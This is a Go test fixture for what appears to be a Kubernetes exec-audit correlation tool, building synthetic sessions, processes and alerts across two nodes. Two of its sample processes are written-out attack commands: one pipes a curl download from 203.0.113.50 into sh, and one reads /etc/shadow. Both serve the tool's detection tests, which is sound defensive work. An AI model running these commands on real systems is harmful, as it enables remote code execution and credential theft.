package kubeapi

import (
	"fmt"
	"strings"
	"time"

	"github.com/execid/correlator/pkg/auditlog"
	"github.com/execid/correlator/pkg/capture"
	"github.com/execid/correlator/pkg/join"
	"github.com/execid/correlator/pkg/store"
	"github.com/execid/correlator/pkg/vocab"
)

// What each node's store holds. web-0 runs on node-a, web-1 on node-b.

var base = time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)

func at(seconds int) time.Time { return base.Add(time.Duration(seconds) * time.Second) }

const (
	// aliceWeb0 is alice's shell in web-0 (node-a).
	aliceWeb0 = "0b7e9a52-1c2d-4e3f-8a9b-0c1d2e3f4a01"
	// replayed is one audit ID held by two requests: alice's in web-0
	// (node-a), then a replay of it into web-1 (node-b).
	replayed = "5d2c8f17-9e4b-4a6c-b3d1-7f0e2a9c6b02"
	// aliceWeb1 is alice's shell in web-1 (node-b).
	aliceWeb1 = "9a4f3e21-7b6c-4d5e-9f8a-1b2c3d4e5f03"
	// bobWeb1 is bob's session in web-1 (node-b).
	bobWeb1 = "c3e1d7a9-2f4b-4c8d-a6e5-3b7f9d1c2e04"
	// staleWeb0 is a session into a pod named web-0 that node-b holds
	// (an earlier web-0 that ran there): `who web-0` asks only web-0's
	// node now, so it must not show it.
	staleWeb0 = "e8b6a4c2-0d1f-4e3a-b5c7-9d8e6f4a2b05"
	// carolBlog is carol's session in blog/web-2 (node-a), a pod labelled
	// app=web in another namespace: selected by -l app=web with -A only.
	carolBlog = "1f2e3d4c-5b6a-4798-8a6b-5c4d3e2f1a06"
	// carolDB is carol's session in shop/db-0 (node-b), a pod without
	// the app=web label.
	carolDB = "7a6b5c4d-3e2f-4a1b-9c8d-7e6f5a4b3c07"
)

// Labels of the workload pods: web-0 and web-1 are app=web in shop (a
// stable and a canary track), web-2 is app=web in blog, db-0 is app=db.
var podLabels = map[string]map[string]string{
	"shop/web-0": {"app": "web", "track": "stable"},
	"shop/web-1": {"app": "web", "track": "canary"},
	"blog/web-2": {"app": "web"},
	"shop/db-0":  {"app": "db"},
}

func session(id, user, pod string, seconds int, command ...string) join.Session {
	return sessionIn("shop", id, user, pod, seconds, command...)
}

func sessionIn(ns, id, user, pod string, seconds int, command ...string) join.Session {
	yes := true
	q := "command=" + strings.Join(command, "&command=") + "&container=app&stdin=true&stdout=true&tty=true"
	return join.Session{ExecRecord: auditlog.ExecRecord{
		AuditID:     id,
		Stages:      []string{"RequestReceived", "ResponseStarted", "ResponseComplete"},
		Verb:        "create",
		Subresource: "exec",
		User: auditlog.UserInfo{Username: user, UID: "uid-" + user,
			Groups: []string{"system:authenticated", "developers"}},
		SourceIPs:                []string{"203.0.113.7"},
		UserAgent:                "kubectl/v1.35.4 (linux/amd64) kubernetes/abcdef0",
		Namespace:                ns,
		Pod:                      pod,
		Container:                "app",
		Command:                  command,
		Stdin:                    &yes,
		TTY:                      &yes,
		Code:                     101,
		Decision:                 "allow",
		RequestURI:               fmt.Sprintf("/api/v1/namespaces/%s/pods/%s/exec?%s", ns, pod, q),
		RequestReceivedTimestamp: at(seconds),
		EndTimestamp:             at(seconds + 40),
	}}
}

func process(s join.Session, pid uint32, seconds int, argv ...string) join.Process {
	return join.Process{
		Exec: capture.Exec{
			ProcessID: fmt.Sprintf("%s-%d", s.AuditID[:8], pid),
			PID:       pid, PPID: 1, UID: 0,
			Filename:    "/bin/" + argv[0],
			Argv:        argv,
			ContainerID: "c0ffee-" + s.Pod,
			PodUID:      "uid-" + s.Pod,
		},
		Namespace: s.Namespace, Pod: s.Pod, Container: s.Container,
		Start: at(seconds), ExecTime: at(seconds),
		AuditID: s.AuditID, Attribution: vocab.AttributionAuditID, Source: vocab.SourceEnv, Confidence: 1,
		Flags: []string{},
	}
}

// nodeA is node-a's store: alice's shell in web-0 and the first use of
// the replayed ID, and an alert.
func nodeA() store.Batch {
	shell := session(aliceWeb0, "alice", "web-0", 0, "sh")
	first := session(replayed, "alice", "web-0", 60, "sh", "-c", "id")
	blog := sessionIn("blog", carolBlog, "carol", "web-2", 30, "sh")
	return store.Batch{
		Sessions: []join.Session{shell, first, blog},
		Processes: []join.Process{
			process(shell, 4101, 1, "sh"),
			process(shell, 4102, 5, "cat", "/etc/shadow"),
			process(first, 4201, 61, "id"),
		},
		Alerts: []store.Alert{{ID: "a-shadow", Time: at(5), Rule: "sensitive-file-read", Severity: "high",
			Message: "cat /etc/shadow in shop/web-0", AuditID: aliceWeb0, ProcessID: aliceWeb0[:8] + "-4102"}},
	}
}

// nodeB is node-b's store: alice's shell in web-1, the replay, bob, the
// stale web-0 session, and an alert.
func nodeB() store.Batch {
	shell := session(aliceWeb1, "alice", "web-1", 120, "bash")
	replay := session(replayed, "alice", "web-1", 90, "sh", "-c", "curl -s http://203.0.113.50/x | sh")
	bob := session(bobWeb1, "bob", "web-1", 45, "ls")
	stale := session(staleWeb0, "alice", "web-0", 150, "env")
	db := session(carolDB, "carol", "db-0", 20, "psql")
	return store.Batch{
		Sessions: []join.Session{shell, replay, bob, stale, db},
		Processes: []join.Process{
			process(shell, 5101, 121, "bash"),
			process(replay, 5201, 91, "sh", "-c", "curl -s http://203.0.113.50/x | sh"),
			process(replay, 5202, 92, "curl", "-s", "http://203.0.113.50/x"),
			process(bob, 5301, 46, "ls"),
			process(stale, 5401, 151, "env"),
		},
		Alerts: []store.Alert{{ID: "b-replay", Time: at(95), Rule: "audit-id-replay", Severity: "critical",
			Message: "audit ID " + replayed + " reused in shop/web-1", AuditID: replayed}},
	}
}
